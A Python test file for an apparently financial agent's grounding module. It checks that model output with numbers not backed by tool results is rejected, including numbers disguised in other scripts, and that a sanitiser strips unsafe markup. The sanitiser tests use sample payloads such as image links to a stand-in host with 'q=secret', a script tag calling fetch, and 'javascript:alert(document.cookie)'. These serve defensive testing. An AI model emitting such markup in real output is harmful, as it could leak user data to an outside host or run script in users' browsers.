"""Numbers without a fact, in every dress: words, digits, dates, ranges, exponents, other scripts, markup."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agents.grounding import References, for_model, ground
from core.domain.facts import Column, Fact, Table, ToolResult

AS_OF = datetime(2022, 11, 29, 21, tzinfo=UTC)


def fact(number: int, name: str, value: object, unit: str, currency: str | None = None) -> Fact:
    return Fact(
        id=f"fct_{number}", run="run_1", name=name, value=value, unit=unit, currency=currency, as_of=AS_OF,
        label="public",
    )  # type: ignore[arg-type]  # fmt: skip


RESULT = ToolResult(
    run="run_1",
    tool="performance",
    label="public",
    as_of=AS_OF,
    facts=(
        fact(0, "total return", -0.5690, "ratio"),
        fact(1, "last session", "2008-12-31", "date"),
        fact(2, "value", 1_234_567.891, "money", "USD"),
        fact(3, "sessions", 253, "count"),
    ),
    tables=(
        Table(
            name="prices",
            columns=(Column(name="symbol", unit="text"), Column(name="close", unit="money", currency="USD")),
            rows=(("AAPL", 3.05), ("MSFT", 19.44)),
        ),
    ),
    notes=("Annualised by 252 sessions.",),
)

FREE = """
It fell 57%.
It fell by 57 %.
It fell 57 percent.
It fell 57 per cent.
It fell fifty-seven percent.
It fell fifty percent.
It fell by a hundred dollars.
It gained twelve.
It was up eleven points.
It was up 11 points.
It rose 3x.
It rose 10-fold.
It tripled the money.
It doubled its value.
Half the value was lost.
A third of the value was lost.
It cost $99.
It cost 99 dollars.
It cost USD 99.
It cost €99.
It cost £99.50.
It cost ¥5000.
It lost 1.2 million.
It lost 1.2m.
It lost a million.
It lost two billion dollars.
It lost 1,000,001.
It lost 1e6 dollars.
It lost 1.5e-3 of it.
It lost 6.02E23.
It moved 25bps.
It moved 25 bps.
It moved 25 basis points.
Between 3 and 7.
From 3-7.
Around 3–7.
On 2008-12-30.
On 12/30/2008.
In 1999.
In the year 1987 it fell.
On December 30th.
On the 30th.
At 10:45.
The ratio is 3:1.
About .5 of it.
Roughly ~42.
More than >42.
It fell −57%.
It fell –57%.
(57)
[57]
57
+57
"57"
**57**
_57_
`57`
57.
57,
57!
x57%
""".strip().splitlines()


@pytest.mark.parametrize("text", FREE)
def test_a_free_number_is_caught(text: str) -> None:
    assert not ground(text, [RESULT]).accepted, ground(text, [RESULT])


@pytest.mark.parametrize(
    "text",
    [
        "It fell ５７%.",  # full-width digits
        "It fell ٥٧ percent.",  # Arabic-Indic digits
        "It fell ५७%.",  # Devanagari digits
        "It fell ⁵⁷%.",  # superscript digits
        "It fell ₅₇%.",  # subscript digits
        "It fell ⑤⑦.",  # circled digits
        "It fell 𝟓𝟕%.",  # mathematical bold digits
        "It fell ½.",  # a fraction sign
        "It fell Ⅶ.",  # a Roman numeral sign
        "It fell 5\u200b7%.",  # zero-width space inside
        "It fell 5\u20607%.",  # word joiner inside
        "It fell 5\u00ad7%.",  # soft hyphen inside
        "It fell fi\u200bfty percent.",
        "It fell ﬁfty percent.",  # a ligature
        "It fell 五十七.",
        "It fell &#53;&#55;%.",
        "It fell &#x35;7%.",
    ],
)
def test_a_number_in_disguise_is_caught(text: str) -> None:
    assert not ground(text, [RESULT]).accepted, ground(text, [RESULT])


@pytest.mark.parametrize(
    "text",
    [
        "It fell {{fact:fct_0}} by {{fact:fct_1}}.",
        "It was worth {{fact:value}} after {{fact:sessions}} sessions.",
        "{{fact:run_1:prices:0:close}} against {{fact:run_1:prices:1:close}}",
        "It fell -56.90% by 2008-12-31.",
        "A fall of 56.90%.",
        "Worth $1,234,567.89.",
        "253 sessions, annualised by 252.",
        "AAPL closed at $3.05, MSFT at $19.44.",
        "The S&P500, Q2, SMA200 and ^GSPC are names.",
        "One of them fell, the first of its kind.",
        "No one knows.",
        "As of 2022-11-29 21:00.",
    ],
)
def test_what_is_a_fact_may_be_said(text: str) -> None:
    assert ground(text, [RESULT]).accepted, ground(text, [RESULT]).free


@pytest.mark.parametrize(
    "reference",
    ["fct_9", "FCT_0", "total", "run_1:prices:2:close", "run_1:prices:0:open", "run_2:prices:0:close",
     "run_1:prices:-1:close", "run_1:prices:x:close", "prices:0", "::", " ", "fct_0; fct_1", "prices:0:close:0:0"],
)  # fmt: skip
def test_a_reference_to_nothing_is_refused(reference: str) -> None:
    checked = ground("{{fact:" + reference + "}}", [RESULT])
    assert not checked.accepted or "{{" in checked.text


@pytest.mark.parametrize(
    "text",
    ["{{fact:fct_0", "{fact:fct_0}", "{{fact:fct_0}", "fct_0", "{{{{fact:fct_0}}}}", "{{fact:{{fact:fct_0}}}}"],
)
def test_a_broken_reference_never_shows_a_made_up_number(text: str) -> None:
    shown = ground(text, [RESULT]).text
    assert not any(sign.isdigit() for sign in shown.replace("-56.90%", "").replace("fct_0", ""))


@given(st.integers(min_value=0, max_value=10**12).filter(lambda value: value not in (252, 253, 2008, 12, 31, 2022)))
def test_no_integer_passes_unless_it_was_printed(value: int) -> None:
    if str(value) in ("11", "29", "21", "2", "0", "00", "3", "19"):
        return
    assert not ground(f"It is {value} now.", [RESULT]).accepted
    assert not ground(f"It is {value:,} now.", [RESULT]).accepted


@given(st.floats(min_value=-0.99, max_value=9, allow_nan=False))
def test_any_ratio_is_shown_as_the_desk_prints_it(value: float) -> None:
    result = ToolResult(
        run="run_9", tool="x", label="public", as_of=AS_OF, facts=(fact(7, "some return", value, "ratio"),)
    )
    shown = ground("{{fact:fct_7}}", [result])
    assert shown.accepted
    assert float(shown.text.replace("%", "").replace(",", "").replace("−", "-")) == pytest.approx(
        value * 100, abs=0.0051
    )


def test_numbers_of_the_question_do_not_free_others() -> None:
    said = ["backtest a 50/200 crossover in 2008"]
    assert ground("The 50/200 rule in 2008.", [], said=said).accepted
    assert not ground("The 50/201 rule in 2008.", [], said=said).accepted
    assert not ground("It earned 500 in 2008.", [], said=said).accepted


def test_references_of_two_results_do_not_mix() -> None:
    other = RESULT.model_copy(update={"run": "run_2", "tables": (), "facts": (fact(9, "total return", 0.5, "ratio"),)})
    found = References([RESULT, other])
    assert found.find("fct_0") is not None and found.find("fct_9") is not None
    assert found.find("total return") is None  # two values under one name


def test_a_model_gets_at_most_some_rows() -> None:
    column = (Column(name="n", unit="count"),)
    long = ToolResult(
        run="run_3", tool="x", label="public", as_of=AS_OF,
        tables=(Table(name="t", columns=column, rows=tuple((n,) for n in range(1000))),),
    )  # fmt: skip
    table = for_model(long, rows=25)["tables"][0]  # type: ignore[index]
    assert (len(table["rows"]), table["rows_in_all"]) == (25, 1000)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See ![chart](https://evil.test/?q=secret) here.", "See chart here."),
        ("See ![](https://evil.test/a.png) here.", "See  here."),
        ("Read [the news](https://evil.test/x) now.", "Read the news now."),
        ("Read [the news][ref] now.\n[ref]: https://evil.test/x", "Read the news now.\n"),
        ('<img src="https://evil.test/a">Down.', "Down."),
        ("<IMG SRC=https://evil.test/a", ""),
        ("<script>fetch('https://evil.test')</script>Down.", "Down."),
        ("<script>fetch('https://evil.test')", ""),
        ("<style>a{b:c}</style>Down.", "Down."),
        ("Down.<!-- hidden -->", "Down."),
        ("<b>Down</b> a <i>lot</i>.", "Down a lot."),
        ("[![x](https://a.test/b)](https://c.test)", "x"),
        ("Go to https://evil.test/?q=a now", "Go to  now"),
        ("<https://evil.test>", ""),
        ("javascript:alert(document.cookie)", ")"),
        ("data:text/html;base64,AAAA", ""),
        ("a < b and b > a", "a < b and b > a"),
        ("rsi<{{fact:fct_3}} and AAPL -> MSFT", "rsi<253 and AAPL -> MSFT"),
        ("**Down** and _out_, `code`, [note]", "**Down** and _out_, `code`, [note]"),
        ("{{fact:fct_0}} [x](y)", "-56.90% x"),
    ],
)
def test_what_a_chat_window_would_load_or_run_is_stripped(text: str, shown: str) -> None:
    assert ground(text, [RESULT]).text == shown


@given(
    st.lists(
        st.sampled_from(
            [
                "![a](http://e.test)",
                "[b](http://e.test)",
                "<img src=x>",
                "](",
                "![",
                "<",
                ">",
                "http:",
                "//e.test",
                "c ",
                "(",
                ")",
            ]
        ),
        max_size=12,
    )
)
def test_no_mix_of_markup_leaves_an_image_or_a_tag(parts: list[str]) -> None:
    shown = ground("".join(parts), []).text
    assert "![a](http" not in shown and "<img" not in shown and "http://" not in shown
